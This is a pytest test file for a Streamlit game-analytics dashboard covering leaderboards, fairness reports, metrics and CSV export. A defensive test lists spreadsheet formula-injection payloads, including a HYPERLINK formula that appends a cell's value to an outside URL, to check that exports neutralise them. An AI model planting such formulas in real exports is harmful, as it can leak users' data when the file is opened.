"""The pages' logic without a browser: filters, links, what is said where there is nothing."""

# ruff: noqa: F401, F811 (a fixture is found by its name, wherever it is imported from)

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import streamlit as st
from dashboard_fixtures import (
    CHEATER,
    DAYS,
    HOSTILE,
    LAST_DAY,
    LEADER,
    NEWCOMER,
    QUIET_DAY,
    ROOT,
    build_lake,
    event,
    game_lake,
)
from streamlit.testing.v1 import AppTest

from dashboard import controls, grids, queries
from warehouse.calendar import Days
from warehouse.engine import DuckDBEngine
from warehouse.folds import fold
from warehouse.imports import import_file
from warehouse.lake import Lake, vacuum_now
from warehouse.lake.history import snapshot_at
from warehouse.publications import Outlets, publish
from warehouse.settings import Settings
from warehouse.tables import TABLES

PAGES = ("overview", "progression", "metrics", "fairness", "leaderboards", "sql")


@pytest.fixture
def open_page(monkeypatch: pytest.MonkeyPatch):
    def run(settings: Settings, name: str, **parameters: str) -> AppTest:
        monkeypatch.setenv("FAIRBOARD_DATA_DIR", str(settings.data_dir))
        app = AppTest.from_file(ROOT / "dashboard/app.py", default_timeout=30).run()
        for key, value in parameters.items():
            app.query_params[key] = value
        app.switch_page(f"app_pages/{name}.py").run()
        assert not app.exception
        assert not app.error
        return app

    return run


def judged(app: AppTest):
    return next(element.value for element in app.dataframe if "baseline_center" in element.value)


@pytest.mark.parametrize("name", PAGES)
def test_every_page_opens(open_page, game_lake: Settings, name: str):
    open_page(game_lake, name)


@pytest.mark.parametrize("name", PAGES)
def test_every_page_opens_with_one_player_and_one_event(open_page, tmp_path: Path, name: str):
    open_page(build_lake(tmp_path, [event("alone", 0, 0, 5)]), name, player="alone")


@pytest.mark.parametrize("name", PAGES[:-1])
def test_landed_but_not_computed_says_which_days_to_materialize(open_page, tmp_path: Path, name: str):
    settings = Settings(_env_file=None, data_dir=tmp_path)
    file = tmp_path / "one.ndjson"
    file.write_text(json.dumps(event("early", 0, 0, 5)))
    with DuckDBEngine(settings) as engine:
        import_file(engine.lake, engine.calendar, file)
    app = open_page(settings, name)
    assert "fairboard materialize --from 2026-03-02 --to 2026-03-02" in [code.value for code in app.code]


def test_the_rule_filters_the_report(open_page, game_lake: Settings):
    app = open_page(game_lake, "fairness")
    assert list(judged(app)["rule"]) == ["suspicion"]
    app.selectbox(key="rule").set_value("every rule").run()
    assert set(judged(app)["rule"]) >= {"self", "self_log", "suspicion"}
    app.selectbox(key="rule").set_value("self_log").run()
    assert list(judged(app)["rule"]) == ["self_log"]
    assert list(judged(app)["player_id"]) == [CHEATER]


def test_too_little_data_is_shown_as_such_and_not_as_clear(open_page, game_lake: Settings):
    everybody = open_page(game_lake, "fairness", verdict="insufficient data", rule="self")
    assert NEWCOMER in list(judged(everybody)["player_id"])
    assert NEWCOMER not in list(judged(open_page(game_lake, "fairness", verdict="clear", rule="self"))["player_id"])
    one = open_page(game_lake, "fairness", player=NEWCOMER)
    assert any("insufficient data: 0 own XP events in the baseline" in text.value for text in one.markdown)


@pytest.mark.parametrize(
    ("window", "start", "xp"), [("daily", LAST_DAY, 2700), ("weekly", date(2026, 3, 9), 5 * 2700), ("alltime", None, 11 * 2700)]
)
def test_the_window_chooses_the_board(open_page, game_lake: Settings, window: str, start: date | None, xp: int):
    app = open_page(game_lake, "leaderboards", window=window)
    board = app.dataframe[0].value
    assert (board["player_id"][0], board["xp"][0]) == (LEADER, xp)
    assert start is None or app.selectbox(key="start").value == start


def test_a_board_shows_the_neighbours_of_the_player_in_the_url(open_page, game_lake: Settings):
    app = open_page(game_lake, "leaderboards", player=NEWCOMER)
    assert NEWCOMER in list(app.dataframe[1].value["player_id"])


def test_a_closed_board_shows_its_revisions_and_what_changed(open_page, tmp_path: Path, redis_settings: Settings):
    settings = build_lake(tmp_path, [event("ada", 0, 0, 50), event("grace", 0, 0, 40)])
    settings = settings.model_copy(update={"redis_url": redis_settings.redis_url})

    def publish_revision() -> None:
        with DuckDBEngine(settings) as engine:
            publish(engine, Outlets(settings), "leaderboard_snapshots", Days(DAYS[0], DAYS[0]))

    publish_revision()
    assert open_page(settings, "leaderboards").dataframe[-1].value["cause"].to_list() == ["first publication"]
    file = tmp_path / "late.ndjson"
    file.write_text(json.dumps(event("grace", 0, 1, 30)))
    with DuckDBEngine(settings) as engine:
        import_file(engine.lake, engine.calendar, file)
        for table in ("player_days", "leaderboards"):
            fold(engine, table, Days(DAYS[0], DAYS[0]))
    publish_revision()
    st.cache_data.clear()
    app = open_page(settings, "leaderboards")
    revisions, changes = app.dataframe[-2].value, app.dataframe[-1].value
    assert revisions["cause"].to_list() == ["late events", "first publication"]
    moved = changes[["player_id", "rank_before", "rank_after", "xp_after"]]
    assert list(moved.itertuples(index=False, name=None)) == [("grace", 2, 1, 70), ("ada", 1, 2, 50)]
    assert list(changes["late_events"][0]) == ["grace-0-1"]


def test_a_day_without_events_says_so_and_the_arrows_lead_out(open_page, game_lake: Settings):
    app = open_page(game_lake, "progression", day=str(QUIET_DAY))
    assert f"No events on {QUIET_DAY}" in app.info[0].value
    app.button(key="day_right").click().run()
    assert app.date_input(key="day").value == QUIET_DAY + timedelta(days=1)
    assert not app.info


def test_a_part_of_an_id_offers_who_has_it(open_page, game_lake: Settings):
    app = open_page(game_lake, "progression", player="MALL")
    app.button(key=f"similar-{CHEATER}").click().run()
    assert app.text_input(key="player").value == CHEATER
    assert app.query_params["player"] == CHEATER


def test_a_new_day_is_shown_once_it_lies_there(tmp_path: Path):
    settings = build_lake(tmp_path, [event("ada", 0, 0, 5)])
    span = Days(DAYS[0], LAST_DAY)
    assert queries.daily_totals(settings, span)["xp"].to_list() == [5]
    file = tmp_path / "later.ndjson"
    file.write_text(json.dumps(event("ada", 0, 1, 7)))
    with DuckDBEngine(settings) as engine:
        import_file(engine.lake, engine.calendar, file)
        fold(engine, "player_days", Days(DAYS[0], DAYS[0]))
    st.cache_resource.clear()
    assert queries.daily_totals(settings, span)["xp"].to_list() == [12]


def test_what_is_behind_is_on_the_overview_with_the_reason_and_the_command(open_page, tmp_path: Path):
    settings = build_lake(tmp_path, [event("ada", 0, 0, 5)])
    st.cache_data.clear()
    assert not open_page(settings, "overview").warning
    land_and_fold_as_the_live_job(settings, event("ada", 0, 1, 7))
    st.cache_data.clear()
    app = open_page(settings, "overview")
    assert "`progression`" in app.warning[0].value
    assert "its inputs changed" in app.warning[0].value
    assert f"fairboard materialize --from {DAYS[0]} --to {DAYS[0]}" in [code.value for code in app.code]


def test_a_board_is_shown_as_the_lake_had_it(open_page, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """The page chooses whole minutes; here the minute is the moment between two computations."""
    settings = build_lake(tmp_path, [event("ada", 0, 0, 5)])
    moment = datetime.now(UTC) + timedelta(milliseconds=2)
    land_and_fold_as_the_live_job(settings, event("ada", 0, 1, 7))
    monkeypatch.setattr("warehouse.lake.lake.snapshot_at", lambda lake, table, _: snapshot_at(lake, table, moment))
    assert open_page(settings, "leaderboards").dataframe[0].value["xp"].to_list() == [12]
    app = open_page(settings, "leaderboards", as_of=moment.strftime("%Y-%m-%dT%H:%M"))
    assert app.dataframe[0].value["xp"].to_list() == [5]


def test_a_moment_that_is_not_kept_is_a_sentence(open_page, tmp_path: Path):
    settings = build_lake(tmp_path, [event("ada", 0, 0, 5)])
    moment = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M")
    land_and_fold_as_the_live_job(settings, event("ada", 0, 1, 7))
    with Lake(settings) as lake:
        vacuum_now(lake, TABLES.values())
        [log, *_] = sorted((settings.lake_dir / "leaderboards/_delta_log").glob("*.json"))
        log.unlink()
    app = open_page(settings, "leaderboards", as_of=moment)
    assert "is not kept as it was" in app.warning[0].value


def land_and_fold_as_the_live_job(settings: Settings, late: dict[str, Any]) -> None:
    file = settings.data_dir / "later.ndjson"
    file.write_text(json.dumps(late))
    with DuckDBEngine(settings) as engine:
        import_file(engine.lake, engine.calendar, file)
        for table in ("player_days", "leaderboards"):
            fold(engine, table, Days(DAYS[0], DAYS[0]))


def test_settings_that_contradict_the_lake_are_a_message(open_page, game_lake: Settings, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("FAIRBOARD_DATA_DIR", str(game_lake.data_dir))
    monkeypatch.setenv("FAIRBOARD_TIMEZONE", "Europe/Berlin")
    st.cache_resource.clear()
    app = AppTest.from_file(ROOT / "dashboard/app.py", default_timeout=30).run()
    assert not app.exception
    assert "ends its days in UTC" in app.code[0].value


def test_the_metrics_of_a_day_stand_beside_those_of_a_week_before(open_page, game_lake: Settings):
    app = open_page(game_lake, "metrics")
    headlines = {metric.label: (metric.value, metric.delta) for metric in app.metric}
    assert headlines["DAU"] == ("6", "+20.0%")
    assert headlines["MAU"][0] == "6"
    assert headlines["Stickiness"][0] == "100.0%"
    assert headlines["D1"][0] == "100.0%"
    kills = next(element.value for element in app.dataframe if "duration_median_ms" in element.value)
    assert kills["boss_id"].to_list() == ["hydra"]
    back = open_page(game_lake, "metrics", day=str(DAYS[0]))
    assert "No cohort is a day old yet." in [text.value for text in back.markdown]


@pytest.mark.parametrize("name", [page for page in PAGES if page != "sql"])
def test_the_columns_of_every_grid_that_the_contract_knows_have_its_words(open_page, game_lake: Settings, name: str):
    docs: dict[str, set[str]] = {}
    columns = (column for table in TABLES.values() for column in table.columns)
    for column in (column for column in columns if column.name not in {"players", "kills"}):  # pages count their own
        docs.setdefault(column.name, set()).add(column.doc)
    shown = 0
    for element in open_page(game_lake, name, player=CHEATER).dataframe:
        for column, config in json.loads(element.proto.columns).items():
            if column in docs:
                shown += 1
                assert any(doc in (config.get("help") or "") for doc in docs[column]), column
    assert shown


def test_help_texts_are_the_contracts():
    for table in TABLES.values():
        config = grids.column_config(table)
        for column in table.columns:
            assert column.doc in config[column.name]["help"]


@pytest.mark.parametrize(
    ("name", "heading"), [("xp_to_next", "XP to next"), ("player_id", "Player id"), ("reached_ts", "Reached"), ("z", "z")]
)
def test_column_headings(name: str, heading: str):
    assert grids.label(name) == heading


def test_untrusted_text_keeps_no_sign_that_markdown_reads():
    text = controls.as_text(HOSTILE)
    assert text.replace("\\", "") == HOSTILE
    assert all(text[at - 1] == "\\" for at, sign in enumerate(text) if sign in "<>*[]():$`!_#~|&")


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def test_a_csv_holds_lists_and_the_like_as_words():
    kind = pl.Series(["x"], dtype=pl.Enum(["x"]))
    frame = pl.DataFrame({"player_id": ["a"], "evidence": [["e1", "e2"]], "struct": [{"a": 1}], "kind": kind, "z": [-0.5]})
    (row,) = csv_rows(grids.csv(frame))
    assert row == {"player_id": "a", "evidence": "e1 e2", "struct": "{'a': 1}", "kind": "x", "z": "-0.5"}


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    '=HYPERLINK("http://x?"&A1,"y")',
    "a;=1+1",
    'a",=1+1',
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_in_a_csv_is_a_formula_whatever_parts_the_cells(text: str, delimiter: str):
    content = grids.csv(pl.DataFrame({text: [text], "list": [[text]], "xp": [5]}))
    cells = [cell for line in csv.reader(io.StringIO(content.decode(), newline=""), delimiter=delimiter) for cell in line]
    assert [cell for cell in cells if cell.lstrip(" \0").startswith(tuple("=+-@\t\r\n\uff1d"))] == []
    (row,) = csv_rows(content)
    assert row["list"].replace("'", "") == text


@pytest.mark.parametrize("player", [" lead", "trail ", "\u2028ls", "  "])
def test_a_player_is_looked_up_by_the_id_as_it_is(open_page, tmp_path: Path, player: str):
    settings = build_lake(tmp_path, [event(player, 0, n, 5 + n) for n in range(3)])
    assert "18" in [metric.value for metric in open_page(settings, "progression", player=player).metric]
    assert f"Evidence: {controls.as_text(player)}".strip() in [
        head.value for head in open_page(settings, "fairness", player=player).subheader
    ]
    board = open_page(settings, "leaderboards", player=player)
    assert "That player is not on this board." not in [info.value for info in board.info]


def test_an_id_with_a_blank_too_many_finds_who_is_like_it(open_page, game_lake: Settings):
    app = open_page(game_lake, "progression", player=f" {LEADER} ")
    assert LEADER in [button.label for button in app.button]
